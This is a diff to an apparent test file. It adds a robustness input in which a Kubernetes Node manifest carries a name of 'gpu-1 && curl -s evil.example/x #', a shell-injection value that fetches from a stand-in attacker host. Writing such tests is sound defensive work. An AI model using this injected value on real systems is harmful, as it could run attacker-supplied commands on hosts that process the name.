@@ -107,6 +107,11 @@ INPUTS: dict[str, Callable[[], bytes]] = {
         }
     ).encode()[:-100],
     "5 MB label value": _huge_label,
+    "a Node named as a shell command (`gpu-1 && curl -s evil.example/x #`)": lambda: (
+        b'apiVersion: v1\nkind: Node\nmetadata:\n  name: "gpu-1 && curl -s evil.example/x #"\n'
+        b"  labels: {nvidia.com/gpu.present: 'true', nvidia.com/gpu.workload.config: vm_passthrough}\n"
+        b"status: {allocatable: {nvidia.com/gpu: '4'}, capacity: {nvidia.com/gpu: '4'}}\n"
+    ),
 }
 
 
